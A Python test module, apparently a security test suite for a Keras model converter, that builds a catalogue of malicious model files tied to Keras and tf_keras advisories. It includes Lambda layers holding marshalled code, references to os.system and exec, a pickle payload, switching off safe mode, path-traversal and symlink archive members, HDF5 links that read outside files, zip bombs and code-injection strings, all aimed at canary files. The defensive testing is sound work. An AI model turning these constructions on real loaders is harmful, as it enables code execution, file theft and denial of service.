"""Every way in which a model file could do harm that we know of: the standing catalogue.

An attack builds a file that would do harm if it were opened without care, in each form that can carry it. The harm is a
canary's (`tests.security.canaries`). Most files must be refused, with words that show that the right thing was refused;
the others must convert and verify as if nothing were wrong with them.

A new advisory of Keras or tf_keras is an entry here. Those known by August 2026 are named with the attacks.
"""

from __future__ import annotations

import base64
import io
import json
import pickle
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import h5py
import numpy as np

from tests.security import canaries
from tests.security.canaries import CODE, FOLDER, MARK, MODULE, SAVED_MODEL, SECRET, SECRET_BYTES, VOCABULARY
from tests.security.files import FORMS, WEIGHTS, Parts, layer, layers_of

KERAS_3, KERAS_2 = ("3.keras", "3.h5"), ("2.keras", "2.h5")
ARCHIVES, HDF5 = ("3.keras", "2.keras"), ("3.h5", "2.h5")


class Bench:
    """What attacks are built with. port: of a server on the loopback that nobody may come to."""

    def __init__(self, folder: Path, port: int):
        self.folder, self.port = folder, port
        self._made: dict[tuple[str, str], Parts] = {}

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.port}/k2t.txt"

    def parts(self, form: str, kind: str = "dense") -> Parts:
        """A small valid file: input x → ``victim`` → Dense ``head``. kind: of the victim."""
        import copy

        if (form, kind) not in self._made:
            package = package_of(form)
            path = self.folder / f"base-{kind}-{form}"
            x = package.Input((4,), name="x", dtype="string" if kind == "words" else None)
            if kind == "words":
                y = package.layers.StringLookup(vocabulary=["a", "b"], output_mode="count", name="victim")(x)
            else:
                y = package.layers.Dense(4, name="victim", activation="relu")(x)
            package.Model(x, package.layers.Dense(2, name="head")(y), name="small").save(path)
            self._made[form, kind] = Parts.read(path, form)
        return copy.deepcopy(self._made[form, kind])


def package_of(form: str) -> Any:
    import keras
    import tf_keras

    return tf_keras if form.startswith("2") else keras


@dataclass(frozen=True)
class Attack:
    """kind: what would happen. refusal: words of the message with which it is refused; None: it converts and verifies.
    build: gives the file, in one of the forms. real: what the plain loader of that version of Keras does with it is
    worth seeing (it neither hangs nor fills the memory).
    """

    name: str
    kind: str
    advisories: tuple[str, ...]
    forms: tuple[str, ...]
    refusal: str | None
    build: Callable[[Bench, str, Path], Path]
    real: bool

    @property
    def what(self) -> str:
        return (self.build.__doc__ or "").split("\n")[0].rstrip(".")


ATTACKS: list[Attack] = []


def attack(
    kind: str, *advisories: str, refusal: str | None, forms: tuple[str, ...] = FORMS, real: bool = False
) -> Callable:
    """The function below builds the file: it gets (bench, form, parts) and changes the parts, or gives a path."""

    def register(change: Callable) -> Callable:
        def build(bench: Bench, form: str, folder: Path) -> Path:
            folder.mkdir(parents=True, exist_ok=True)
            path = folder / f"{change.__name__}.{form.split('.')[1]}"
            made = change(bench, form, path)
            if isinstance(made, Parts):
                return made.write(path)
            return made if isinstance(made, Path) else path

        build.__doc__ = change.__doc__
        ATTACKS.append(Attack(change.__name__, kind, advisories, forms, refusal, build, real))
        return change

    return register


def function(module: str | None, name: str, registered: str | None = None) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": registered or name}


def instance(
    module: str | None, name: str, config: dict | None = None, registered: str | None = None
) -> dict[str, Any]:
    return {"module": module, "class_name": name, "config": config or {}, "registered_name": registered}


def become(parts: Parts, class_name: str, config: dict[str, Any], module: str | None = "keras.layers") -> Parts:
    """The victim as a layer of another class."""
    victim = layer(parts.config, "victim")
    victim.update(class_name=class_name, config={"name": "victim", **config})
    if "module" in victim:
        victim.update(module=module, registered_name=None)
    victim.pop("build_config", None)
    return parts


def stored_function(form: str) -> Any:
    """The canary's code as that form keeps a function."""
    value = {"value": [CODE, None, None], "code": CODE, "defaults": None, "closure": None}
    return [CODE, None, None] if form == "2.h5" else {"class_name": "__lambda__", "config": value}


def as_lambda(form: str) -> dict[str, Any]:
    extra = {"function_type": "lambda", "output_shape_type": "raw", "module": "__main__", "output_shape_module": None}
    return {
        "function": stored_function(form),
        "output_shape": None,
        "arguments": {},
        **(extra if form[0] == "2" else {}),
    }


def keyword(parts: Parts, **values: Any) -> None:
    """Give the victim's call these arguments instead of its tensor."""
    victim = layer(parts.config, "victim")
    node = victim["inbound_nodes"][0]
    if isinstance(node, dict):
        node["args"], node["kwargs"] = [], values
    else:
        node[0][3] = values


# --- code -------------------------------------------------------------------------------------------------------------


@attack("code", "CVE-2024-3660", "CVE-2025-9905", "CVE-2026-12481", refusal="Lambda", real=True)
def lambda_layer(bench, form, path):
    """A Lambda layer with marshalled code."""
    return become(bench.parts(form), "Lambda", as_lambda(form))


HOLDERS = {
    "TimeDistributed": "layer",
    "Bidirectional": "layer",
    "RNN": "cell",
    "StackedRNNCells": "cells",
    "Sequential": "layers",
    "SpectralNormalization": "layer",
}


@attack("code", "CVE-2024-3660", "CVE-2025-9905", refusal="Lambda")
def lambda_within_layers(bench, form, path):
    """A Lambda within wrappers, cells and nested models."""
    item = instance("keras.layers", "Lambda", {"name": "inner", **as_lambda(form)})
    for name, option in HOLDERS.items():
        value = [item] if option in ("cells", "layers") else item
        item = instance(
            "keras.layers" if name != "Sequential" else "keras", name, {"name": name.lower(), option: value}
        )
    return become(bench.parts(form), "TimeDistributed", {"layer": item})


@attack("code", "CVE-2024-3660", refusal="Lambda|none of the layers|custom", real=True)
def stored_code_as_an_option(bench, form, path):
    """Marshalled code as an activation, an initial value, a regularizer."""
    parts = bench.parts(form)
    code = {
        "class_name": "__lambda__",
        "config": {"value": [CODE, None, None], "code": CODE, "defaults": None, "closure": None},
    }
    for option in ("activation", "kernel_initializer", "kernel_regularizer", "bias_constraint"):
        layer(parts.config, "victim")["config"][option] = code
    return parts


@attack("code", refusal="Lambda|none of the layers|custom|is not registered")
def lambda_under_another_name(bench, form, path):
    """A Lambda under names that are resolved to it, or look like it."""
    parts = bench.parts(form)
    extra = []
    for index, (name, module) in enumerate(
        [
            ("keras.layers>Lambda", "keras.layers"),
            ("Custom>Lambda", None),
            ("lambda", "keras.layers"),
            ("Lambda ", "keras.layers"),
            ("Lаmbda", "keras.layers"),
            ("Lambda", "keras.src.layers.core.lambda_layer"),
            ("Dense", "keras.src.layers.core.lambda_layer"),
        ]
    ):
        extra.append(
            {
                **instance(module, name, {"name": f"l{index}", **as_lambda(form)}, "keras.layers>Lambda"),
                "name": f"l{index}",
                "inbound_nodes": layer(parts.config, "victim")["inbound_nodes"],
            }
        )
    layers_of(parts.config)[1:1] = extra
    return parts


@attack("code", "CVE-2025-1550", refusal="none of the layers|custom|is not registered|'system'", real=True)
def function_of_any_module(bench, form, path):
    """`os.system`, with its argument as a literal input: an arbitrary function is called with arbitrary arguments."""
    parts = bench.parts(form)
    victim = layer(parts.config, "victim")
    victim.update(function("os", "system"))
    victim.update(class_name="function", name="victim")
    keyword(parts, command=f"touch {canaries.FIRED}")
    return parts


@attack(
    "code", "CVE-2025-1550", "CVE-2025-8747", refusal="custom|none of the layers|is not registered|Lambda", real=True
)
def lambda_of_a_named_function(bench, form, path):
    """A Lambda that names `builtins.exec`, which needs no stored code."""
    config = {**as_lambda(form), "function": function("builtins", "exec")}
    if form == "2.h5":
        config |= {"function": "exec", "function_type": "function", "module": "builtins"}
    return become(bench.parts(form), "Lambda", config)


@attack("code", "CVE-2025-9906", refusal="none of the layers|Lambda")
def switch_off_safe_mode(bench, form, path):
    """Safe mode switched off by a function that the file names, called while it is read, before a Lambda."""
    parts = become(bench.parts(form), "Lambda", as_lambda(form))
    for index, (module, name) in enumerate(
        [
            ("keras.config", "enable_unsafe_deserialization"),
            ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"),
            ("keras.src.backend.common.global_state", "set_global_attribute"),
        ]
    ):
        arguments = {"name": "safe_mode_saving", "value": False} if name.startswith("set") else {}
        item = instance(
            "keras.layers", "Lambda", {"name": f"s{index}", "function": function(module, name), "arguments": arguments}
        )
        nodes = layer(parts.config, "victim")["inbound_nodes"]
        layers_of(parts.config).insert(1, {**item, "name": f"s{index}", "inbound_nodes": nodes})
    return parts


@attack("code", "CVE-2025-9906", refusal="none of the layers|Lambda", forms=KERAS_3)
def load_a_second_file(bench, form, path):
    """A Lambda whose function is `keras.models.load_model` with safe mode off, on a file beside it."""
    second = bench.parts("3.keras")
    become(second, "Lambda", as_lambda("3.keras")).write(path.with_name("second.keras"))
    parts = bench.parts(form)
    config = {"function": function("keras.models", "load_model"), "arguments": {"safe_mode": False}}
    become(parts, "Lambda", config)
    keyword(parts, inputs=str(path.with_name("second.keras")))
    return parts


@attack("code", "GHSA (keras issue 22466)", refusal="none of the layers|custom|is not registered|registered_name")
def registered_name_of_another(bench, form, path):
    """A Dense whose registered name, or module, is something else."""
    parts = bench.parts(form)
    layer(parts.config, "victim").update(class_name="Dense", module="builtins", registered_name="builtins>exec")
    layer(parts.config, "head").update(class_name="Custom>exec", module="os", registered_name="os>system")
    return parts


@attack("code", "CVE-2025-49655", refusal="TorchModuleWrapper")
def pickle_in_a_torch_module(bench, form, path):
    """A TorchModuleWrapper, whose module is a pickle."""

    class Stolen:
        def __reduce__(self):
            return exec, (f"open({str(canaries.FIRED)!r}, 'a').write({MARK!r})",)

    module = base64.b64encode(pickle.dumps(Stolen())).decode("ascii")
    return become(bench.parts(form), "TorchModuleWrapper", {"module": module, "output_shape": [4]})


@attack("code", "CVE-2026-1462", refusal="TFSMLayer")
def saved_model_layer(bench, form, path):
    """A TFSMLayer: a SavedModel of this machine is loaded, and its operations run."""
    return become(bench.parts(form), "TFSMLayer", {"filepath": str(SAVED_MODEL), "call_endpoint": "serve"})


@attack("code", refusal="ReloadedLayer", real=True)
def reloaded_layer(bench, form, path):
    """tf_keras's ReloadedLayer, which does the same."""
    config = {"filepath": str(SAVED_MODEL), "call_endpoint": "serve", "call_training_endpoint": None, "trainable": True}
    return become(bench.parts(form), "ReloadedLayer", config, "tf_keras.src.export.export_lib")


def wrapped_cell(name: str, config: dict[str, Any]) -> dict[str, Any]:
    cell = instance("keras.layers", "LSTMCell", {"name": "cell", "units": 4})
    item = {"class_name": name, "config": {"name": "wrapped", "cell": cell, **config}}
    return {**item, "module": "keras.src.layers.rnn.cell_wrappers", "registered_name": None}


@attack("code", refusal="ResidualWrapper", real=True)
def residual_wrapper(bench, form, path):
    """A cell wrapper that keeps marshalled code (`residual_fn`), for which tf_keras has no safe mode."""
    config = {"residual_fn": [CODE, None, None], "residual_fn_type": "lambda", "residual_fn_module": "__main__"}
    return become(bench.parts(form), "RNN", {"cell": wrapped_cell("ResidualWrapper", config)})


@attack("code", refusal="DropoutWrapper|DeviceWrapper")
def dropout_wrapper(bench, form, path):
    """The same of `dropout_state_filter_visitor`, and a wrapper that moves a cell to another device."""
    config = {
        "input_keep_prob": 1.0,
        "output_keep_prob": 1.0,
        "state_keep_prob": 1.0,
        "variational_recurrent": False,
        "seed": None,
        "dropout_fn": [CODE, None, None],
        "dropout_fn_type": "lambda",
        "dropout_fn_module": "__main__",
    }
    inner = wrapped_cell("DropoutWrapper", config)
    return become(
        bench.parts(form),
        "RNN",
        {"cell": {**wrapped_cell("DeviceWrapper", {"device": "/cpu:0"}), "config": {"cell": inner}}},
    )


@attack("code", refusal="none of the layers|custom|is not registered|is not Keras's own", real=True)
def functions_of_text_vectorization(bench, form, path):
    """`builtins.exec` and `os.system` as the functions that standardise and split text."""
    config = {
        "standardize": function("builtins", "exec"),
        "split": function("os", "system"),
        "max_tokens": 10,
        "ngrams": None,
        "output_mode": "int",
        "output_sequence_length": None,
        "pad_to_max_tokens": False,
        "vocabulary": ["a"],
        "sparse": False,
        "ragged": False,
        "encoding": "utf-8",
    }
    return become(bench.parts(form), "TextVectorization", config)


@attack("code", refusal="none of the layers|custom|is not registered|is not Keras's own", real=True)
def module_that_runs_when_imported(bench, form, path):
    """A class of a module of this machine, which is imported to look it up."""
    parts = bench.parts(form)
    layer(parts.config, "victim")["config"]["kernel_initializer"] = instance(
        MODULE, "Anything", {}, f"{MODULE}>Anything"
    )
    layer(parts.config, "head")["config"]["activation"] = function(MODULE, "anything")
    return parts


@attack("code", refusal="none of the layers|custom|is not registered|is not Keras's own")
def type_specification(bench, form, path):
    """A `__typespec__`, which names a class by module and name."""
    item = {"class_name": "__typespec__", "spec_name": "Popen", "module": "subprocess", "config": [["true"]]}
    parts = bench.parts(form)
    layer(parts.config, "victim")["config"]["kernel_regularizer"] = {**item, "registered_name": None}
    return parts


@attack("code", refusal="operation tf.io.read_file", forms=KERAS_2)
def operations_that_run_python(bench, form, path):
    """TensorFlow's operations as layers: `py_function`, `io.read_file`, `saved_model.load`."""
    parts = bench.parts(form)
    nodes = layer(parts.config, "victim")["inbound_nodes"]
    names = ("py_function", "numpy_function", "io.read_file", "io.write_file", "saved_model.load", "raw_ops.ReadFile")
    for index, name in enumerate((*names, "__operators__.getitem.__class__", "keras.utils.get_file")):
        item = instance("keras.layers", "TFOpLambda", {"name": f"o{index}", "function": name})
        layers_of(parts.config).insert(1, {**item, "name": f"o{index}", "inbound_nodes": nodes})
    return parts


@attack("code", refusal="none of the layers|Lambda|TensorFlowOpLayer|is not Keras's own", forms=KERAS_2)
def layers_of_the_first_keras(bench, form, path):
    """TensorFlowOpLayer, which holds an operation as it is, and methods and properties of tensors."""
    parts = bench.parts(form)
    nodes = layer(parts.config, "victim")["inbound_nodes"]
    for name in ("TensorFlowOpLayer", "InstanceMethod", "InstanceProperty", "ClassMethod"):
        config = {
            "name": name.lower(),
            "cls_symbol": "data.Dataset",
            "method_name": "from_generator",
            "node_def": "",
            "constants": {},
        }
        layers_of(parts.config).insert(
            1, {**instance("keras.layers", name, config), "name": name.lower(), "inbound_nodes": nodes}
        )
    return parts


@attack("code", refusal=None, real=True)
def loss_with_code(bench, form, path):
    """Code in how the model was trained: the loss, a metric, the optimizer. It is not read."""
    parts = bench.parts(form)
    compiled = {
        "optimizer": instance(MODULE, "Anything"),
        "loss": stored_function(form),
        "metrics": [function("os", "system")],
    }
    parts.config["compile_config"] = compiled
    if form.endswith(".h5"):
        training = {
            "loss": "nobody>loss",
            "metrics": [function("os", "system")],
            "optimizer_config": compiled["optimizer"],
        }
        parts.edit(lambda file: file.attrs.__setitem__("training_config", json.dumps(training)))
    return parts


@attack("code", refusal="none of the layers|Lambda|is not registered|custom|is not Keras's own")
def endless_loop(bench, form, path):
    """Operations that run until a condition of the file's own is false."""
    parts = bench.parts(form)
    loop = {"cond": function("keras.ops", "isfinite"), "body": function("keras.utils", "get_file")}
    config = {**loop, "maximum_iterations": None}
    return become(parts, "WhileLoop", config, "keras.src.ops.core")


INJECTIONS = (
    f'x"; open({str(canaries.FIRED)!r}, "a").write("{MARK}"); "',
    f'"""\nopen({str(canaries.FIRED)!r}, "a").write("{MARK}")\n"""',
    f"x\nopen({str(canaries.FIRED)!r}, 'a').write('{MARK}')\n#",
    f"x\ropen({str(canaries.FIRED)!r}, 'a').write('{MARK}')\r#",
    f"x\u2028open({str(canaries.FIRED)!r}, 'a').write('{MARK}')\x0c#",
    "{open('x', 'w')}",
    "\\",
    "'; import os  # k2t",
    "<script>k2t_canary()</script>",
    "x\x1b]0;k2t canary\x07\x1b[2J",
)


@attack("code", refusal=None, forms=KERAS_3)
def names_that_are_code(bench, form, path):
    """Names of layers and of the model that would be code in model.py, markup in a page, commands of a terminal."""
    package = package_of(form)
    x = y = package.Input((4,), name="x")
    for index, name in enumerate(INJECTIONS):
        clean = f"layer{index}"
        y = package.layers.Dense(4, name=clean)(y)
        del name
    model = package.Model(x, y, name="small")
    plain = path.with_name(f"plain{path.suffix}")
    model.save(plain)
    parts = Parts.read(plain, form)
    plain.unlink()
    text = json.dumps(parts.config)
    for index, name in enumerate(INJECTIONS):
        text = text.replace(json.dumps(f"layer{index}"), json.dumps(name.replace("/", "|") if form[0] == "3" else name))
    parts.config = json.loads(text.replace(json.dumps("small"), json.dumps(INJECTIONS[1].replace("/", "|"))))
    if form.endswith(".h5"):  # its groups go by the names, in their order
        pass
    return parts


# --- reading ----------------------------------------------------------------------------------------------------------


def vocabulary(bench: Bench, form: str, options: dict[str, Any], class_name: str = "StringLookup") -> Parts:
    parts = bench.parts(form, "words")
    victim = layer(parts.config, "victim")
    victim["class_name"] = class_name
    victim["config"].update(options)
    return parts


@attack(
    "read",
    "CVE-2025-12058",
    refusal="takes its vocabulary from the file|takes its idf_weights from the file",
    real=True,
)
def vocabulary_of_a_path(bench, form, path):
    """A StringLookup whose vocabulary is a path of this machine."""
    return vocabulary(bench, form, {"vocabulary": str(VOCABULARY), "idf_weights": None})


@attack("read", "CVE-2025-12058", refusal="from the file|is not Keras's own|cannot rebuild|none of the layers")
def vocabulary_of_other_layers(bench, form, path):
    """The same of IntegerLookup, IndexLookup, TextVectorization and of idf_weights, and as bytes."""
    parts = vocabulary(bench, form, {"idf_weights": str(VOCABULARY), "output_mode": "tf_idf"})
    nodes = layer(parts.config, "victim")["inbound_nodes"]
    as_bytes = {"class_name": "__bytes__", "config": {"value": str(VOCABULARY)}}
    for index, (name, value) in enumerate(
        [("IntegerLookup", str(VOCABULARY)), ("TextVectorization", str(VOCABULARY)), ("StringLookup", as_bytes)]
    ):
        item = instance("keras.layers", name, {"name": f"v{index}", "vocabulary": value, "max_tokens": None})
        layers_of(parts.config).insert(1, {**item, "name": f"v{index}", "inbound_nodes": nodes})
    return parts


@attack("read", "CVE-2025-12058", refusal="cannot rebuild|holds text|vocabulary|is not Keras's own|TEXT|StringLookup")
def vocabulary_as_bytes(bench, form, path):
    """A vocabulary that is a path of this machine, as bytes."""
    return vocabulary(bench, form, {"vocabulary": {"class_name": "__bytes__", "config": {"value": str(VOCABULARY)}}})


def poisoned(parts: Parts, put: Callable[[Any, str], object]) -> Parts:
    """Every kernel of the victim's shape is put there in another way."""

    def change(file: Any) -> None:
        found: list[str] = []
        file.visititems(
            lambda at, item: found.append(at) if isinstance(item, h5py.Dataset) and item.shape == (4, 4) else None
        )
        assert found
        for at in found:
            del file[at]
            put(file, at)

    parts.edit(change)
    return parts


@attack("read", "CVE-2026-1669", refusal="from another file", real=True)
def external_storage(bench, form, path):
    """Weights whose numbers lie in another file of this machine (HDF5 external storage)."""
    external = [(str(SECRET), 0, len(SECRET_BYTES))]
    return poisoned(bench.parts(form), lambda file, at: file.create_dataset(at, (4, 4), "float32", external=external))


def other_hdf5() -> Path:
    path = FOLDER / "secret.h5"
    with h5py.File(path, "w") as file:
        file["w"] = np.array(canaries.NUMBERS[:16], "float32").reshape(4, 4)
    return path


@attack("read", "GHSA-27f4-p4xq-cxg8", refusal="leads elsewhere")
def external_link(bench, form, path):
    """Weights by a link into another HDF5 file of this machine."""
    return poisoned(
        bench.parts(form), lambda file, at: file.__setitem__(at, h5py.ExternalLink(str(other_hdf5()), "/w"))
    )


@attack("read", "GHSA-27f4-p4xq-cxg8", refusal="leads elsewhere")
def external_link_of_a_group(bench, form, path):
    """A whole group of weights by such a link."""
    parts = bench.parts(form)

    def change(file: Any) -> None:
        for name in list(file):
            del file[name]
            file[name] = h5py.ExternalLink(str(other_hdf5()), "/")

    parts.edit(change)
    return parts


@attack("read", "CVE-2026-1669", refusal="put together from other files")
def virtual_dataset(bench, form, path):
    """Weights that are put together from another HDF5 file of this machine."""
    layout = h5py.VirtualLayout((4, 4), "float32")
    layout[:] = h5py.VirtualSource(str(other_hdf5()), "w", (4, 4), "float32")
    return poisoned(bench.parts(form), lambda file, at: file.create_virtual_dataset(at, layout))


@attack("read", "GHSA-27f4-p4xq-cxg8", refusal="leads elsewhere")
def soft_link(bench, form, path):
    """Weights by a link within the file."""
    return poisoned(bench.parts(form), lambda file, at: file.__setitem__(at, h5py.SoftLink("/")))


@attack("read", refusal="holds text or references")
def references(bench, form, path):
    """Weights that are references to other objects, or texts of any length, many of which are one place in the file."""

    def put(file: Any, at: str) -> None:
        file.create_dataset(at, (4, 4), h5py.special_dtype(ref=h5py.Reference))
        file.create_dataset(f"{at}_text", (4, 4), h5py.string_dtype())

    return poisoned(bench.parts(form), put)


@attack("read", refusal="filter")
def foreign_filter(bench, form, path):
    """Weights packed with a filter that HDF5 would look for in a library of the machine."""
    data = np.zeros((4, 4), "float32")

    def put(file: Any, at: str) -> None:
        space = h5py.h5s.create_simple((4, 4))
        properties = h5py.h5p.create(h5py.h5p.DATASET_CREATE)
        properties.set_chunk((4, 4))
        properties.set_filter(32015, h5py.h5z.FLAG_OPTIONAL, (3,))
        made = h5py.h5d.create(file.id, at.encode(), h5py.h5t.IEEE_F32LE, space, properties)
        made.write(h5py.h5s.ALL, h5py.h5s.ALL, data)

    return poisoned(bench.parts(form), put)


# --- writing ----------------------------------------------------------------------------------------------------------

PATHS = ("../../k2t-out.txt", "/tmp/k2t-out.txt", "..\\..\\k2t-out.txt", "a/../../../k2t-out.txt", "C:\\k2t-out.txt")


def archive_attack(
    name: str, advisories: tuple[str, ...], refusal: str | None, member: Callable[[], list], what: str
) -> None:
    def change(bench: Bench, form: str, path: Path) -> Parts:
        parts = bench.parts(form)
        parts.members += member()
        return parts

    change.__name__, change.__doc__ = name, what
    attack("write", *advisories, refusal=refusal, forms=ARCHIVES)(change)


for number, climbing in enumerate(PATHS[:4]):
    archive_attack(
        f"member_that_climbs_{number}",
        ("CVE-2025-12060", "CVE-2025-12638", "CVE-2024-55459", "GHSA-hqp4-2352-xf5r"),
        "leaves its folder",
        lambda climbing=climbing: [(climbing, b"k2t canary"), ("assets/a.txt", b"")],
        f"A member of the archive called {climbing!r}.",
    )


def symbolic_links() -> list[tuple[zipfile.ZipInfo, bytes]]:
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = 0o120777 << 16
    return [(link, str(FOLDER).encode()), (zipfile.ZipInfo("assets/link/k2t-out.txt"), b"k2t canary")]


archive_attack(
    "member_that_is_a_link",
    ("CVE-2025-12060",),
    "not a plain file|leaves its folder|is a link",
    symbolic_links,
    "A symbolic link in the archive, and a member behind it.",
)
archive_attack(
    "member_with_odd_names",
    (),
    "twice|not a plain name|leaves its folder|odd name",
    lambda: [("nul\0byte.txt", b"x"), ("C:\\k2t-out.txt", b"x"), ("assets/\x1b[2J", b"x")],
    "Members called with a NUL, a drive, control characters.",
)
archive_attack(
    "member_that_comes_twice",
    (),
    "twice",
    lambda: [("config.json", b"{}"), (WEIGHTS, b"")],
    "config.json and the weights twice, so that two readers may read different ones.",
)


@attack("write", "CVE-2026-12479", refusal=None)
def layer_called_like_a_path(bench, form, path):
    """Layers called `../../x` and `/tmp/x`, from which paths are made while they are read or written."""
    parts = bench.parts(form, "dense")
    text = json.dumps(parts.config).replace('"victim"', json.dumps(".." if form[0] == "3" else "../../k2t-out"))
    parts.config = json.loads(text)
    return parts


@attack("write", refusal="none of the layers|custom|is not registered|is not Keras's own")
def functions_that_write(bench, form, path):
    """Functions of Keras that write: `save_img`, `get_file` with extract, `plot_model`."""
    parts = bench.parts(form)
    for index, (module, name) in enumerate(
        [
            ("keras.utils", "save_img"),
            ("keras.utils", "get_file"),
            ("keras.utils", "plot_model"),
            ("keras.saving", "save_model"),
        ]
    ):
        option = ("activation", "kernel_initializer", "bias_initializer", "kernel_regularizer")[index]
        layer(parts.config, "victim")["config"][option] = function(module, name)
    return parts


# --- the network ------------------------------------------------------------------------------------------------------


@attack("network", "CVE-2025-8747", refusal="none of the layers|Lambda")
def download(bench, form, path):
    """`keras.utils.get_file` as a Lambda's function: a file is fetched, and an archive unpacked."""
    arguments = {"fname": "k2t.tar.gz", "extract": True, "cache_dir": str(FOLDER)}
    config = {**as_lambda(form), "function": function("keras.utils", "get_file"), "arguments": arguments}
    parts = become(bench.parts(form), "Lambda", config)
    keyword(parts, origin=bench.address)
    return parts


@attack("network", refusal="none of the layers|Lambda|custom|is not registered|is not Keras's own")
def data_sets(bench, form, path):
    """`keras.datasets.*.load_data`, which downloads and makes a folder."""
    parts = bench.parts(form)
    layer(parts.config, "victim")["config"]["activation"] = function("keras.datasets.mnist", "load_data")
    layer(parts.config, "head")["config"]["activation"] = function("keras.applications", "ResNet50")
    return parts


@attack("network", "CVE-2025-12058", refusal="takes its vocabulary from the file")
def vocabulary_of_an_address(bench, form, path):
    """A vocabulary that is an address, which TensorFlow's file systems open."""
    return vocabulary(bench, form, {"vocabulary": bench.address})


# --- what other models of the process are computed with ---------------------------------------------------------------


@attack("state", refusal="none of the layers|Lambda|custom|is not registered|is not Keras's own", real=True)
def settings_of_the_process(bench, form, path):
    """`keras.config.set_floatx`, `set_image_data_format`, `set_epsilon`: every later model would be another."""
    parts = bench.parts(form)
    for name, (setter, value) in {
        "victim": ("set_floatx", "float64"),
        "head": ("set_image_data_format", "channels_first"),
    }.items():
        config = {"name": name, "function": function("keras.config", setter), "arguments": {}}
        found = layer(parts.config, name)
        found.update(class_name="Lambda", config=config)
        found.pop("build_config", None)
        if isinstance(found["inbound_nodes"][0], dict):
            found["inbound_nodes"][0].update(args=[], kwargs={"inputs": value})
    return parts


# --- memory, time, disk -----------------------------------------------------------------------------------------------


@attack("resources", "CVE-2026-0897", refusal="absurd shape")
def shape_of_which_nothing_is_stored(bench, form, path):
    """A dataset of 149 GiB of which nothing is stored."""
    return poisoned(bench.parts(form), lambda file, at: file.create_dataset(at, (200_000, 200_000), "float32"))


@attack("resources", "CVE-2026-0897", refusal="absurd shape")
def shape_of_which_little_is_stored(bench, form, path):
    """A dataset of 149 GiB in pieces, of which one is stored."""

    def put(file: Any, at: str) -> None:
        data = file.create_dataset(at, (200_000, 200_000), "float32", chunks=(64, 64), compression="gzip")
        data[0, 0] = 1.0

    return poisoned(bench.parts(form), put)


@attack("resources", "keras pull request 23010", refusal="zip bomb", forms=ARCHIVES)
def zip_bomb(bench, form, path):
    """Weights that unpack to a thousand times their size."""
    parts = bench.parts(form)
    parts.compression = zipfile.ZIP_DEFLATED
    parts.h5 += bytes(100 * 2**20)
    return parts


@attack("resources", "keras pull request 23101", refusal="zip bomb", forms=ARCHIVES)
def zip_bomb_of_an_asset(bench, form, path):
    """An asset that does, which Keras would unpack to the disk."""
    parts = bench.parts(form)
    parts.compression = zipfile.ZIP_DEFLATED
    parts.members += [("assets/a", bytes(100 * 2**20)), ("assets/b", b"")]
    return parts


@attack("resources", "keras pull request 23303", refusal="zip bomb|too long", forms=ARCHIVES)
def zip_bomb_of_the_config(bench, form, path):
    """A config.json of 60 MB, packed to 60 KB, that is a gigabyte as Python's objects."""
    parts = bench.parts(form)
    parts.compression = zipfile.ZIP_DEFLATED
    parts.text = b'{"class_name": "Sequential", "config": {"name": "a", "layers": [' + b"[]," * 20_000_000 + b"[]]}}"
    return parts


@attack("resources", refusal="archive|zip bomb", forms=ARCHIVES)
def many_members(bench, form, path):
    """Eleven thousand members."""
    parts = bench.parts(form)
    parts.members += [(f"assets/{index}", b"") for index in range(11_000)]
    return parts


@attack("resources", "keras pull request 23016", refusal="not a Keras model", forms=ARCHIVES)
def weights_in_another_format(bench, form, path):
    """Weights as .npz, whose members declare what is not stored."""
    parts = bench.parts(form)
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        header = str({"descr": "<f4", "fortran_order": False, "shape": (200_000, 200_000)}).encode().ljust(117) + b"\n"
        archive.writestr("a.npy", b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header)
    parts.members.append(("model.weights.npz", held.getvalue()))
    parts.members.append(("model.weights.json", b'{"weight_map": {"/layers/dense/vars": ["../../../secret.h5"]}}'))
    path.unlink(missing_ok=True)
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("config.json", json.dumps(parts.config))
        for name, data in parts.members:
            archive.writestr(name, data)
    return path


@attack("resources", refusal="JSON|damaged|nested")
def config_nested_without_end(bench, form, path):
    """A config of brackets in brackets."""
    parts = bench.parts(form)
    parts.text = b'{"class_name": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    return parts


@attack("resources", refusal="nested")
def option_nested_deep(bench, form, path):
    """An option of lists in lists, of a depth that JSON reads and Python's functions do not walk."""
    parts = bench.parts(form)
    value: Any = 1
    for _ in range(800):
        value = [value]
    layer(parts.config, "victim")["config"]["kernel_initializer"] = instance(
        "keras.initializers", "Constant", {"value": value}
    )
    return parts


@attack("resources", refusal="nested")
def models_nested_deep(bench, form, path):
    """A model within a model, three hundred times."""
    parts = bench.parts(form)
    for depth in range(300):
        config = {"name": f"m{depth}", "layers": [parts.config]}
        parts.config = instance("keras", "Sequential", config)
    return parts


def rewired(change: Callable[[dict, dict], None], name: str, what: str, refusal: str) -> None:
    def build(bench: Bench, form: str, path: Path) -> Parts:
        parts = bench.parts(form)
        change(layer(parts.config, "victim"), layer(parts.config, "head"))
        return parts

    build.__name__, build.__doc__ = name, what
    attack("resources", refusal=refusal)(build)


def _renamed(node: Any, old: str, new: str) -> Any:
    return json.loads(json.dumps(node).replace(json.dumps(old), json.dumps(new)))


rewired(
    lambda victim, head: victim.update(inbound_nodes=_renamed(victim["inbound_nodes"], "x", "nobody")),
    "call_that_reads_nothing",
    "A call that reads a layer which is not there: tf_keras looks for it without end.",
    "nobody",
)
rewired(
    lambda victim, head: victim.update(inbound_nodes=_renamed(victim["inbound_nodes"], "x", "head")),
    "calls_in_a_circle",
    "Two calls that wait for one another.",
    "waits for a call",
)
rewired(
    lambda victim, head: victim.update(inbound_nodes=_renamed(victim["inbound_nodes"], "x", "victim")),
    "call_that_reads_itself",
    "A call that reads its own result.",
    "waits for a call",
)
rewired(
    lambda victim, head: victim.update(
        inbound_nodes=[{"args": [0.0, 1.0, 10**10], "kwargs": {}}]
        if isinstance(victim["inbound_nodes"][0], dict)
        else [[[0.0, 1.0, 10**10, {}]]]
    ),
    "call_on_numbers_alone",
    "An operation on numbers alone, computed while the file is read, of any size.",
    "literals alone",
)


@attack("resources", refusal="order")
def calls_from_back_to_front(bench, form, path):
